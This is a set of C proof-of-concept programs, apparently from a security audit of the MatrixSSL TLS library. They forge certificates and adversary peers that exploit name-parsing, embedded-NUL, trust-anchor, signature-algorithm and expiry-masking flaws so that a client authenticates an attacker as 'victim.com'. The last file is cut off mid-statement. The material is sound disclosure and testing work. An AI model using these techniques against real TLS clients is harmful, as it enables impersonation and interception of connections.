