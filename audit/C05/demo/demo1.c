/*
    demo1: bytes nested INSIDE a subjectAltName otherName value are parsed
    as a sibling dNSName GeneralName (crypto/keyformat/x509.c,
    parseGeneralNames, case GN_OTHER).

    The certificate is well-formed DER.  Its subjectAltName holds exactly ONE
    GeneralName, of kind otherName:

      otherName [0] {
          type-id  1.3.6.1.4.1.99999.1          (private OID)
          value    [0] EXPLICIT {
              [APPLICATION 33] primitive (high-tag-number form, identifier
                                          octets 5F 21) {
                  32 filler bytes,
                  82 0A "victim.com"             <- opaque CONTENT bytes
              }
          }
      }

    parseGeneralNames() skips "the TYPE" of the otherName value with a single
    p++ and then reads a length; it never bounds what it reads by the
    otherName length it parsed.  With a two-byte identifier (5F 21) it takes
    0x21 as the length, skips 33 bytes and continues parsing in the MIDDLE of
    the otherName value, where it finds "82 0A victim.com" and records it as
    a dNSName.  The certificate has no dNSName / rfc822Name / iPAddress and
    its CN is "attacker.example".

    A second variant (not DER-valid, [0] EXPLICIT wrapper holding two TLVs)
    shows the same thing without the high tag.  Variant C shows a related
    weakness of the same function: the kind of a GeneralName is taken from
    (tag & 0x0F) only, so e.g. a universal INTEGER (02) counts as dNSName.
*/
#include "common.h"

static const unsigned char privOid[] = {
    0x2B, 0x06, 0x01, 0x04, 0x01, 0x86, 0x8D, 0x1F, 0x01
};

static void build_san_hightag(buf_t *san, const char *hidden)
{
    buf_t content = { { 0 }, 0 }, app = { { 0 }, 0 }, val = { { 0 }, 0 };
    int i;

    /* opaque content of the [APPLICATION 33] value */
    bput1(&content, 'F');                   /* 31 filler + the length octet
                                               of this TLV = 32 bytes... */
    for (i = 0; i < 31; i++)
    {
        bput1(&content, 'x');
    }
    /* ...exactly 33 bytes after the "0x21" octet the parser lands here: */
    tlv(&content, 0x82, hidden, strlen(hidden));

    /* [APPLICATION 33], primitive, high-tag-number form: 5F 21 */
    bput1(&app, 0x5F);
    bput1(&app, 0x21);
    blen(&app, content.n);
    bput(&app, content.b, content.n);

    tlv(&val, 0x06, privOid, sizeof(privOid));
    tlvb(&val, 0xA0, &app);                 /* value [0] EXPLICIT ANY */
    tlvb(san, 0xA0, &val);                  /* otherName [0] */
}

static void build_san_two_tlvs(buf_t *san, const char *hidden)
{
    buf_t inner = { { 0 }, 0 }, val = { { 0 }, 0 };

    tlv(&inner, 0x0C, "x", 1);              /* UTF8String "x" */
    tlv(&inner, 0x82, hidden, strlen(hidden)); /* second TLV in the wrapper */
    tlv(&val, 0x06, privOid, sizeof(privOid));
    tlvb(&val, 0xA0, &inner);
    tlvb(san, 0xA0, &val);
}

int main(void)
{
    buf_t subj = { { 0 }, 0 }, san = { { 0 }, 0 }, cert = { { 0 }, 0 };
    uint32_t ff;
    int rcVictim, rcOther, rcOwn, hs12, hs13, hsCtl, bad = 0;

    demo_open();

    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x0C, "attacker.example", 16);

    /* honest control: a regular UPN otherName followed by a dNSName */
    {
        static const unsigned char upnOid[] = {
            0x2B, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x14, 0x02, 0x03
        };
        buf_t u = { { 0 }, 0 }, w = { { 0 }, 0 }, v = { { 0 }, 0 };

        tlv(&u, 0x0C, "user@good.example", 17);
        tlv(&v, 0x06, upnOid, sizeof(upnOid));
        tlvb(&v, 0xA0, &u);
        tlvb(&w, 0xA0, &v);
        tlv(&w, 0x82, "good.example", 12);
        tlv(&w, 0x87, "\x0a\x00\x00\x01", 4);
        mkcert(&subj, &w, &cert);
        printf("== honest control: SAN = { otherName(UPN), dNSName "
            "good.example, iPAddress 10.0.0.1 } ==\n");
        if (validate(&cert, "good.example", NAME_TYPE_ANY, &ff, 1) != 0 ||
            validate(&cert, "10.0.0.1", NAME_TYPE_ANY, &ff, 1) != 0 ||
            validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1) == 0 ||
            !handshake(&cert, "good.example", 0, 1) ||
            !handshake(&cert, "good.example", 1, 1))
        {
            printf("honest control failed\n");
            return 2;
        }
    }

    printf("== variant A: well-formed DER, otherName value with a "
        "high-tag-number identifier ==\n");
    build_san_hightag(&san, "victim.com");
    mkcert(&subj, &san, &cert);
    dump_der("demo1_cert.der", &cert);

    rcVictim = validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1);
    rcOther = validate(&cert, "other.com", NAME_TYPE_ANY, &ff, 1);
    rcOwn = validate(&cert, "victim.com", NAME_TYPE_SAN_DNS, &ff, 1);
    hsCtl = handshake(&cert, "other.com", 0, 1);
    hs12 = handshake(&cert, "victim.com", 0, 1);
    hs13 = handshake(&cert, "victim.com", 1, 1);

    if (rcOther >= 0 || hsCtl)
    {
        printf("control failed: name check is not active?\n");
        return 2;
    }
    if (rcVictim == 0)
    {
        printf("VIOLATION: certificate whose only subjectAltName entry is an "
            "otherName (CN=attacker.example) authenticates as \"victim.com\" "
            "(matrixValidateCertsExt rc=0, NAME_TYPE_ANY; NAME_TYPE_SAN_DNS "
            "rc=%d; TLS1.2 handshake %s, TLS1.3 handshake %s)\n", rcOwn,
            hs12 ? "completed" : "failed", hs13 ? "completed" : "failed");
        bad = 1;
    }

    printf("== variant B: [0] EXPLICIT wrapper of the otherName value holds "
        "two TLVs ==\n");
    san.n = 0;
    build_san_two_tlvs(&san, "victim.com");
    mkcert(&subj, &san, &cert);
    rcVictim = validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1);
    rcOther = validate(&cert, "other.com", NAME_TYPE_ANY, &ff, 1);
    if (rcVictim == 0 && rcOther < 0)
    {
        printf("VIOLATION: (variant B) bytes inside the otherName value "
            "matched expectedName \"victim.com\"\n");
        bad = 1;
    }
    printf("== variant C (related, same function): the GeneralName kind is "
        "taken from (tag & 0x0F), class and constructed bits are ignored ==\n");
    san.n = 0;
    tlv(&san, 0x02, "victim.com", 10);      /* UNIVERSAL 2 (INTEGER), not [2] */
    mkcert(&subj, &san, &cert);
    rcVictim = validate(&cert, "victim.com", NAME_TYPE_SAN_DNS, &ff, 1);
    if (rcVictim == 0)
    {
        printf("VIOLATION: (variant C) a subjectAltName element with tag 0x02 "
            "(universal INTEGER) is treated as dNSName [2] and matched "
            "expectedName \"victim.com\"\n");
        bad = 1;
    }
    if (!bad)
    {
        printf("OK: names hidden inside an otherName value / wrongly tagged "
            "elements are not accepted; honest otherName+dNSName+iPAddress "
            "certificate still authenticates\n");
    }
    return bad;
}
