/*
    demo4: embedded-NUL subject commonName is accepted when the CN value is
    tagged BIT STRING (crypto/keyformat/x509.c, psX509GetDNAttributes).

    psX509GetDNAttributes() runs the "hidden NUL" test
    (Strlen(value) != encoded length -> reject) only for PrintableString,
    UTF8String, IA5String and T61String.  `case ASN_BIT_STRING:` shares the
    copy code with them but is entered below the line that sets
    checkHiddenNull, so a CN whose value carries tag 0x03 is stored verbatim
    and later compared as a C string by wildcardMatch().

    CN (tag 03) = "victim.com\0.attacker.example"   (no subjectAltName)

    The same bytes tagged UTF8String are rejected at parse time (control).
*/
#include "common.h"

int main(void)
{
    static const char cn[] = "victim.com\0.attacker.example";
    buf_t subj = { { 0 }, 0 }, cert = { { 0 }, 0 };
    uint32_t ff;
    int rc, rcOther, hsCtl, hs12, hs13;

    demo_open();

    /* control: UTF8String with the embedded NUL must not parse */
    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x0C, cn, sizeof(cn) - 1);
    mkcert(&subj, NULL, &cert);
    printf("-- control: CN UTF8String \"victim.com\\0.attacker.example\"\n");
    if (validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1) != -1000)
    {
        printf("control failed: UTF8String CN with NUL was parsed\n");
        return 2;
    }

    /* honest control: ordinary CN, no SAN */
    subj.n = 0;
    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Good Ltd", 8);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x13, "good.example", 12);
    mkcert(&subj, NULL, &cert);
    printf("-- honest control: CN PrintableString \"good.example\"\n");
    if (validate(&cert, "good.example", NAME_TYPE_ANY, &ff, 1) != 0 ||
        !handshake(&cert, "good.example", 0, 1) ||
        !handshake(&cert, "good.example", 1, 1))
    {
        printf("honest control failed\n");
        return 2;
    }

    subj.n = 0;
    rdn(&subj, OID_O, sizeof(OID_O), 0x0C, "Attacker Ltd", 12);
    rdn(&subj, OID_CN, sizeof(OID_CN), 0x03, cn, sizeof(cn) - 1);
    mkcert(&subj, NULL, &cert);
    dump_der("demo4_cert.der", &cert);
    printf("-- CN BIT STRING (tag 03) \"victim.com\\0.attacker.example\"\n");
    rc = validate(&cert, "victim.com", NAME_TYPE_ANY, &ff, 1);
    rcOther = validate(&cert, "other.com", NAME_TYPE_ANY, &ff, 1);
    hsCtl = handshake(&cert, "other.com", 0, 1);
    hs12 = handshake(&cert, "victim.com", 0, 1);
    hs13 = handshake(&cert, "victim.com", 1, 1);
    if (rcOther == 0 || hsCtl)
    {
        printf("control failed: name check is not active?\n");
        return 2;
    }
    if (rc == 0)
    {
        printf("VIOLATION: subject CN with an embedded NUL "
            "(\"victim.com\\0.attacker.example\", %u bytes, tag BIT STRING) "
            "authenticates as \"victim.com\": matrixValidateCertsExt rc=0, "
            "TLS1.2 handshake %s, TLS1.3 handshake %s\n",
            (unsigned) (sizeof(cn) - 1), hs12 ? "completed" : "failed",
            hs13 ? "completed" : "failed");
        return 1;
    }
    printf("OK: BIT STRING commonName with an embedded NUL is not accepted "
        "as \"victim.com\" (rc=%d); ordinary CN still authenticates\n", rc);
    return 0;
}
