/*
 * demo2: "unknown CA" is not fatal in TLS 1.3 when the verifying side has no
 * trust anchors loaded.
 *
 * hsDecode.c parseCertificate() (TLS <= 1.2) has an explicit clause: a chain
 * that is internally consistent and ends in a self-signed certificate, checked
 * with ssl->keys->CAcerts == NULL, is unknown_ca (fatal without callback, and
 * reported as alert 48 to a callback).  The TLS 1.3 sibling
 * tls13Authenticate.c matrixSslValidatePeerCerts() has no such clause:
 * matrixValidateCertsExt(issuerCerts == NULL) only checks that the presented
 * chain ends in *a* self-signed certificate and returns success.
 *
 * Practical consequence (scenario 1): a client provisioned only with a
 * pre-shared key (no CA file, no certificate callback) and allowing TLS 1.3.
 * For TLS 1.2 it offers PSK suites only (certificate suites are filtered out by
 * haveKeyMaterial because there is no CA).  In TLS 1.3 cipher suites do not name
 * the authentication method: a server that does NOT know the PSK simply
 * ignores the pre_shared_key offer and sends Certificate/CertificateVerify
 * with a self-made root.  The client completes the handshake.
 */
#include "common.h"

static const unsigned char pskKey[SSL_PSK_MAX_KEY_SIZE] = { /* 32 used */
    1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16,
    17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 32
};
static const unsigned char pskId[SSL_PSK_MAX_ID_SIZE] = "device-0001";
#define PSK_ID_LEN 11

static int run(const char *label, psProtocolVersion_t ver, int victimIsServer,
        sslCertCb_t victimCb, int victimHasPsk)
{
    sslKeys_t *vKeys = NULL, *aKeys;
    sslSessOpts_t vOpts, aOpts;
    side_t cli, svr, *victim, *adv;
    sslSessionId_t *sid = NULL;
    int32 rc;
    int bad;

    memset(&cli, 0, sizeof(cli));
    memset(&svr, 0, sizeof(svr));
    memset(&vOpts, 0, sizeof(vOpts));
    memset(&aOpts, 0, sizeof(aOpts));
    cli.name = "client";
    svr.name = "server";
    g_cbAlert[0] = g_cbAlert[1] = -1;
    g_cbCalls[0] = g_cbCalls[1] = 0;

    matrixSslNewKeys(&vKeys, NULL);
    if (victimIsServer)
    {
        /* server identity, but NO CA file for client certificates */
        rc = matrixSslLoadEcKeys(vKeys, TK "EC/256_EC.pem",
                TK "EC/256_EC_KEY.pem", NULL, NULL);
        if (rc < 0)
        {
            printf("%s: victim key load failed %d\n", label, rc);
            return -1;
        }
    }
    if (victimHasPsk)
    {
        rc = matrixSslLoadTls13Psk(vKeys, pskKey, 32, pskId,
                PSK_ID_LEN, NULL);
        if (rc < 0)
        {
            printf("%s: LoadTls13Psk %d\n", label, rc);
            return -1;
        }
        rc = matrixSslLoadPsk(vKeys, pskKey, 32, pskId,
                PSK_ID_LEN);
        if (rc < 0)
        {
            printf("%s: LoadPsk %d\n", label, rc);
            return -1;
        }
    }
    /* Adversary: leaf + its own freshly made self-signed root; no PSK */
    aKeys = adversaryEcKeys(CERTS "leaf2_chain.pem", CERTS "leaf2_key.pem",
            TK "EC/256_EC_CA.pem");
    if (aKeys == NULL)
    {
        return -1;
    }

    setVersion(&vOpts, victimIsServer, ver);
    setVersion(&aOpts, !victimIsServer, ver);

    if (victimIsServer)
    {
        rc = matrixSslNewServerSession(&svr.ssl, vKeys, victimCb, &vOpts);
        if (rc < 0)
        {
            printf("%s: NewServerSession %d\n", label, rc);
            return -1;
        }
        matrixSslNewSessionId(&sid, NULL);
        rc = matrixSslNewClientSession(&cli.ssl, aKeys, sid, NULL, 0,
                strictCb, NULL, NULL, NULL, &aOpts);
        if (rc >= 0)
        {
            matrixSslRegisterClientIdentityCallback(cli.ssl, anyIdentityCb);
        }
        victim = &svr;
        adv = &cli;
    }
    else
    {
        rc = matrixSslNewServerSession(&svr.ssl, aKeys, NULL, &aOpts);
        if (rc < 0)
        {
            printf("%s: NewServerSession %d\n", label, rc);
            return -1;
        }
        matrixSslNewSessionId(&sid, NULL);
        rc = matrixSslNewClientSession(&cli.ssl, vKeys, sid, NULL, 0,
                victimCb, "victim.example.com", NULL, NULL, &vOpts);
        victim = &cli;
        adv = &svr;
    }
    if (rc < 0)
    {
        printf("%-46s NewClientSession refused: %d\n", label, rc);
        return 0;
    }

    pump(&cli, &svr);

    bad = victim->complete && matrixSslHandshakeIsComplete(victim->ssl);
    printf("%-46s %s %s: complete=%d err=%d alert-sent-to-peer=%d "
        "callback-calls=%d callback-alert=%d (adversary: complete=%d "
        "err=%d alert-sent=%d)\n",
        label, verName(victim->ssl), victim->name, victim->complete,
        victim->error, adv->alertDesc,
        g_cbCalls[victimIsServer], g_cbAlert[victimIsServer],
        adv->complete, adv->error, victim->alertDesc);
    if (bad)
    {
        unsigned char *buf;
        int32 n = matrixSslGetWritebuf(adv->ssl, &buf, 5);
        if (n >= 5)
        {
            memcpy(buf, "owned", 5);
            matrixSslEncodeWritebuf(adv->ssl, 5);
            pump(&cli, &svr);
        }
        printf("    -> victim accepted %d application record(s) from the "
            "unauthenticated peer\n", victim->appRecords);
    }

    matrixSslDeleteSession(cli.ssl);
    matrixSslDeleteSession(svr.ssl);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(vKeys);
    matrixSslDeleteKeys(aKeys);
    return bad;
}

int main(void)
{
    int v = 0, r;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }

    r = run("PSK-only client, no CA, no callback", v_tls_1_3, 0, NULL, 1);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client provisioned with a PSK only (no "
            "trust anchors, no callback) completed a certificate handshake "
            "with a server that presented a self-made root\n");
        v++;
    }
    r = run("PSK-only client, no CA, no callback (contrast)", v_tls_1_2, 0,
            NULL, 1);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 PSK-only client completed\n");
        v++;
    }
    r = run("client, no CA, strict callback", v_tls_1_3, 0, strictCb, 0);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 client without trust anchors: callback was "
            "told alert 0 (TLS <= 1.2 reports unknown_ca) and the handshake "
            "completed\n");
        v++;
    }
    r = run("client, no CA, strict callback (contrast)", v_tls_1_2, 0,
            strictCb, 0);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client without trust anchors completed\n");
        v++;
    }
    r = run("server (client auth), no CA, strict callback", v_tls_1_3, 1,
            strictCb, 0);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.3 server requiring client authentication, no "
            "CA loaded: callback was told alert 0 for a self-made client "
            "chain and the handshake completed\n");
        v++;
    }
    r = run("server (client auth), no CA, strict cb (contrast)", v_tls_1_2, 1,
            strictCb, 0);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 server without CA completed\n");
        v++;
    }

    matrixSslClose();
    return v ? 1 : 0;
}
