/*
 * demo3: a TLS 1.2 client accepts a ServerKeyExchange signed with a
 * signature algorithm it did NOT offer in signature_algorithms.
 *
 * matrixssl/tlsSigVer.c tlsVerify() (called from hsDecode.c
 * parseServerKeyExchange) takes the SignatureAndHashAlgorithm from the peer's
 * message and only requires that the library can compute it
 * (tlsSigAlgToHashLen) and that RSA/ECDSA fits the suite.  It never compares
 * it with the list the client sent (ssl->hashSigAlg / ssl->supportedSigAlgs),
 * unlike its siblings: parseCertificateVerify() checks
 * "ssl->hashSigAlg & hashSigAlg", tls13ParseCertificateVerify() checks
 * ssl->supportedSigAlgs.
 *
 * The client below removes every SHA-1 algorithm with
 * matrixSslSessOptsSetSigAlgs(); the server signs its ECDHE parameters with
 * ecdsa_sha1 (0x0203) anyway.
 *
 * The server is the adversary.  It is the library's own server with ONE
 * function interposed at link time (-Wl,--wrap=chooseSkeSigAlg): the choice of
 * the ServerKeyExchange signature algorithm.  That function is only ever
 * called by a server writing its own ServerKeyExchange; all code run by the
 * client (the side under test) is the unmodified library.
 */
#include "common.h"

static int32_t g_forceSkeAlg; /* 0 = honest choice */
static int g_lastComplete;     /* client completed in the last run() */
extern int32_t __real_chooseSkeSigAlg(ssl_t *ssl, sslIdentity_t *id);
int32_t __wrap_chooseSkeSigAlg(ssl_t *ssl, sslIdentity_t *id)
{
    int32_t honest = __real_chooseSkeSigAlg(ssl, id);

    if (g_forceSkeAlg != 0)
    {
        return g_forceSkeAlg;
    }
    return honest;
}

/* Find signature_algorithms (13) in a ClientHello record and print it */
static void printOfferedSigAlgs(const unsigned char *rec, int len)
{
    const unsigned char *p = rec + 5 + 4, *end = rec + len, *e;
    int n;

    p += 2 + 32;                    /* version, random */
    p += 1 + p[0];                  /* session id */
    p += 2 + ((p[0] << 8) | p[1]);  /* suites */
    p += 1 + p[0];                  /* compression */
    e = p + 2 + ((p[0] << 8) | p[1]);
    p += 2;
    if (e > end)
    {
        e = end;
    }
    while (p + 4 <= e)
    {
        int type = (p[0] << 8) | p[1];
        int l = (p[2] << 8) | p[3];
        p += 4;
        if (type == 13)
        {
            printf("    ClientHello signature_algorithms:");
            for (n = 2; n + 1 < l; n += 2)
            {
                printf(" %02x%02x", p[n], p[n + 1]);
            }
            printf("\n");
        }
        p += l;
    }
}

/* Find ServerKeyExchange (12) in the server's plaintext first flight and
   return the SignatureAndHashAlgorithm that is really on the wire */
static int skeSigAlgOnWire(const unsigned char *p, int len)
{
    static unsigned char hs[16384];
    int hsLen = 0, off = 0;

    while (off + 5 <= len)
    {
        int rl = (p[off + 3] << 8) | p[off + 4];
        if (p[off] == 22 && hsLen + rl <= (int) sizeof(hs))
        {
            memcpy(hs + hsLen, p + off + 5, rl);
            hsLen += rl;
        }
        off += 5 + rl;
    }
    off = 0;
    while (off + 4 <= hsLen)
    {
        int ml = (hs[off + 1] << 16) | (hs[off + 2] << 8) | hs[off + 3];
        if (hs[off] == 12)
        {
            const unsigned char *m = hs + off + 4;
            int ptLen = m[3]; /* curve_type(1) named_curve(2) len(1) point */
            return (m[4 + ptLen] << 8) | m[5 + ptLen];
        }
        off += 4 + ml;
    }
    return -1;
}

static int run(const char *label, int32_t forceAlg, uint16_t wireAlg)
{
    sslKeys_t *cKeys = NULL, *sKeys = NULL;
    sslSessOpts_t cOpts, sOpts;
    side_t cli, svr;
    sslSessionId_t *sid = NULL;
    psCipher16_t suite[1] = { TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256 };
    uint16_t offered[] = {
        sigalg_ecdsa_secp256r1_sha256, sigalg_ecdsa_secp384r1_sha384,
        sigalg_rsa_pkcs1_sha256, sigalg_rsa_pkcs1_sha384
    };
    unsigned char *out;
    int32 rc, len;
    int bad, i, wasOffered = 0, onWire;

    memset(&cli, 0, sizeof(cli));
    memset(&svr, 0, sizeof(svr));
    memset(&cOpts, 0, sizeof(cOpts));
    memset(&sOpts, 0, sizeof(sOpts));
    cli.name = "client";
    svr.name = "server";
    g_forceSkeAlg = forceAlg;

    matrixSslNewKeys(&cKeys, NULL);
    matrixSslNewKeys(&sKeys, NULL);
    if (matrixSslLoadEcKeys(cKeys, NULL, NULL, NULL, TK "EC/256_EC_CA.pem") < 0
        || matrixSslLoadEcKeys(sKeys, TK "EC/256_EC.pem",
            TK "EC/256_EC_KEY.pem", NULL, NULL) < 0)
    {
        printf("key load failed\n");
        return -1;
    }
    setVersion(&cOpts, 0, v_tls_1_2);
    setVersion(&sOpts, 1, v_tls_1_2);
    if (matrixSslSessOptsSetSigAlgs(&cOpts, offered,
            sizeof(offered) / sizeof(offered[0])) < 0)
    {
        printf("SetSigAlgs failed\n");
        return -1;
    }
    for (i = 0; i < (int) (sizeof(offered) / sizeof(offered[0])); i++)
    {
        if (offered[i] == wireAlg)
        {
            wasOffered = 1;
        }
    }
    rc = matrixSslNewServerSession(&svr.ssl, sKeys, NULL, &sOpts);
    if (rc < 0)
    {
        printf("NewServerSession %d\n", rc);
        return -1;
    }
    matrixSslNewSessionId(&sid, NULL);
    rc = matrixSslNewClientSession(&cli.ssl, cKeys, sid, suite, 1,
            NULL /* no callback */, NULL, NULL, NULL, &cOpts);
    if (rc < 0)
    {
        printf("NewClientSession %d\n", rc);
        return -1;
    }
    printf("%s\n", label);
    len = matrixSslGetOutdata(cli.ssl, &out);
    printOfferedSigAlgs(out, len);

    deliver(&cli, &svr);            /* ClientHello */
    len = matrixSslGetOutdata(svr.ssl, &out);
    onWire = skeSigAlgOnWire(out, len);
    pump(&cli, &svr);

    g_lastComplete = cli.complete && matrixSslHandshakeIsComplete(cli.ssl);
    bad = g_lastComplete && !wasOffered && onWire == wireAlg;
    if (onWire != wireAlg)
    {
        bad = -3; /* harness problem: the adversary did not sign as asked */
    }
    printf("    ServerKeyExchange on the wire is signed with %04x (offered by "
        "the client: %s); client: complete=%d alert-sent-to-peer=%d\n",
        onWire, wasOffered ? "yes" : "NO", cli.complete, svr.alertDesc);

    matrixSslDeleteSession(cli.ssl);
    matrixSslDeleteSession(svr.ssl);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(cKeys);
    matrixSslDeleteKeys(sKeys);
    return bad;
}

int main(void)
{
    int v = 0, r;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    r = run("honest server (contrast)", 0, sigalg_ecdsa_secp256r1_sha256);
    if (r != 0 || !g_lastComplete)
    {
        printf("CONTROL FAILED: honest TLS 1.2 ECDHE_ECDSA handshake did not "
            "complete (%d)\n", r);
        return 3;
    }
    printf("CONTROL OK: honest handshake with an offered algorithm "
        "completes\n");
    r = run("server signs with ecdsa_sha1", OID_SHA1_ECDSA_SIG,
            sigalg_ecdsa_sha1);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client that offered no SHA-1 algorithm "
            "completed the handshake on a ServerKeyExchange signed with "
            "ecdsa_sha1 (0203)\n");
        v++;
    }
    else if (r == 0)
    {
        printf("OK: ServerKeyExchange signed with unoffered ecdsa_sha1 "
            "refused\n");
    }
    r = run("server signs with ecdsa_secp521r1_sha512", OID_SHA512_ECDSA_SIG,
            sigalg_ecdsa_secp521r1_sha512);
    if (r > 0)
    {
        printf("VIOLATION: TLS 1.2 client completed the handshake on a "
            "ServerKeyExchange signed with ecdsa_sha512 (0603), which it did "
            "not offer\n");
        v++;
    }
    else if (r == 0)
    {
        printf("OK: ServerKeyExchange signed with unoffered ecdsa_sha512 "
            "refused\n");
    }
    matrixSslClose();
    return v ? 1 : 0;
}
