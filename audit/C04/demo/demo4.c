/*
 * demo4: with VCERTS_FLAG_REVALIDATE_DATES an out-of-date leaf short-circuits
 * the whole chain validation, and the only verdict the application sees is
 * "certificate_expired".
 *
 * matrixssl/matrixssl.c matrixValidateCertsExt(): the REVALIDATE_DATES block
 * runs BEFORE any signature / issuer / trust-anchor / name check and does
 *     sc->authStatus = PS_CERT_AUTH_FAIL_EXTENSION;
 *     return PS_CERT_AUTH_FAIL_EXTENSION;
 * on the first certificate whose dates are out of range.  Both verdict
 * walkers (hsDecode.c parseCertificate, tls13Authenticate.c
 * psCheckValidationResult) then find exactly one failure, FAIL_EXTENSION with
 * only the DATE flag, i.e. certificate_expired - the lowest-priority verdict,
 * which (since "fix: certificate_expired masked harder validation failures")
 * is only supposed to be reported for a chain that has no other defect.
 *
 * An application that tolerates exactly expiry (and nothing else) therefore
 * accepts a chain that was never checked against its trust anchors: the
 * adversary just makes its forged leaf expired.
 */
#include "common.h"

/* accepts certificate_expired, nothing else */
static int32 expiryForgivingCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    g_cbAlert[0] = alert;
    g_cbCalls[0]++;
    if (alert == SSL_ALERT_CERTIFICATE_EXPIRED)
    {
        return 0;
    }
    return alert;
}

/* what the adversary / peer presents, and what the client expects */
static const char *g_chain = CERTS "leaf3_chain.pem";
static const char *g_key = CERTS "leaf3_key.pem";
static const char *g_name = "victim.example.com";
static sslCertCb_t g_cb = NULL;
static int g_lastComplete, g_lastAlert;

static int run(const char *label, psProtocolVersion_t ver, int revalidate)
{
    sslKeys_t *vKeys = NULL, *aKeys;
    sslSessOpts_t vOpts, aOpts;
    side_t cli, svr;
    sslSessionId_t *sid = NULL;
    int32 rc;
    int bad;

    memset(&cli, 0, sizeof(cli));
    memset(&svr, 0, sizeof(svr));
    memset(&vOpts, 0, sizeof(vOpts));
    memset(&aOpts, 0, sizeof(aOpts));
    cli.name = "client";
    svr.name = "server";
    g_cbAlert[0] = -1;
    g_cbCalls[0] = 0;

    matrixSslNewKeys(&vKeys, NULL);
    if (matrixSslLoadEcKeys(vKeys, NULL, NULL, NULL, TK "EC/256_EC_CA.pem") < 0)
    {
        printf("victim CA load failed\n");
        return -1;
    }
    /* expired leaf for victim.example.com under a self-made root */
    aKeys = adversaryEcKeys(g_chain, g_key, NULL);
    if (aKeys == NULL)
    {
        return -1;
    }
    setVersion(&vOpts, 0, ver);
    setVersion(&aOpts, 1, ver);
    if (revalidate)
    {
        vOpts.validateCertsOpts.flags |= VCERTS_FLAG_REVALIDATE_DATES;
    }
    rc = matrixSslNewServerSession(&svr.ssl, aKeys, NULL, &aOpts);
    if (rc < 0)
    {
        printf("NewServerSession %d\n", rc);
        return -1;
    }
    matrixSslNewSessionId(&sid, NULL);
    rc = matrixSslNewClientSession(&cli.ssl, vKeys, sid, NULL, 0,
            g_cb ? g_cb : expiryForgivingCb, g_name, NULL, NULL, &vOpts);
    if (rc < 0)
    {
        printf("NewClientSession %d\n", rc);
        return -1;
    }

    pump(&cli, &svr);

    bad = cli.complete && matrixSslHandshakeIsComplete(cli.ssl);
    g_lastComplete = bad;
    g_lastAlert = g_cbAlert[0];
    printf("%-44s %s client: complete=%d alert-sent-to-peer=%d "
        "callback-calls=%d callback-alert=%d\n", label, verName(cli.ssl),
        cli.complete, svr.alertDesc, g_cbCalls[0], g_cbAlert[0]);

    matrixSslDeleteSession(cli.ssl);
    matrixSslDeleteSession(svr.ssl);
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(vKeys);
    matrixSslDeleteKeys(aKeys);
    return bad;
}

int main(void)
{
    int v = 0, r, i, ctl = 0;
    psX509Cert_t *chain = NULL, *ca = NULL, *found = NULL, *c;
    matrixValidateCertsOptions_t o;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }

    /* Direct call of the validation API */
    psX509ParseCertFile(NULL, CERTS "leaf3_chain.pem", &chain, 0);
    psX509ParseCertFile(NULL, TK "EC/256_EC_CA.pem", &ca, 0);
    memset(&o, 0, sizeof(o));
    o.flags = VCERTS_FLAG_REVALIDATE_DATES;
    r = matrixValidateCertsExt(NULL, chain, ca, "victim.example.com", &found,
            NULL, NULL, &o);
    printf("matrixValidateCertsExt([expired leaf, self-made root], "
        "REVALIDATE_DATES) = %d;", r);
    for (c = chain; c != NULL; c = c->next)
    {
        printf(" authStatus(%s)=%d flags=0x%x", c->subject.commonName,
            c->authStatus, (unsigned) c->authFailFlags);
    }
    printf("\n");
    psX509FreeCert(chain);
    psX509FreeCert(ca);

    r = run("expiry-forgiving cb, no flag (contrast)", v_tls_1_3, 0);
    if (r > 0)
    {
        printf("VIOLATION: (unexpected) accepted without the flag\n");
        v++;
    }
    r = run("expiry-forgiving cb, no flag (contrast)", v_tls_1_2, 0);
    if (r > 0)
    {
        printf("VIOLATION: (unexpected) accepted without the flag\n");
        v++;
    }
    /* Controls: the feature itself must keep working */
    chain = ca = NULL;
    psX509ParseCertFile(NULL, CERTS "leaf4.pem", &chain, 0);
    psX509ParseCertFile(NULL, TK "EC/256_EC_CA.pem", &ca, 0);
    r = matrixValidateCertsExt(NULL, chain, ca, "victim.example.com", &found,
            NULL, NULL, &o);
    printf("matrixValidateCertsExt([expired leaf under the TRUSTED CA], "
        "REVALIDATE_DATES) = %d; authStatus=%d flags=0x%x\n", r,
        chain->authStatus, (unsigned) chain->authFailFlags);
    if (r != PS_CERT_AUTH_FAIL_EXTENSION ||
        chain->authStatus != PS_CERT_AUTH_FAIL_EXTENSION ||
        chain->authFailFlags != PS_CERT_AUTH_FAIL_DATE_FLAG)
    {
        printf("CONTROL FAILED: an expired-only chain must still be reported "
            "as a date failure (negative return code)\n");
        ctl++;
    }
    psX509FreeCert(chain);
    psX509FreeCert(ca);

    g_chain = CERTS "leaf4.pem";
    g_key = CERTS "leaf4_key.pem";
    for (i = 0; i < 2; i++)
    {
        r = run("control: only expired, trusted CA, forgiving cb",
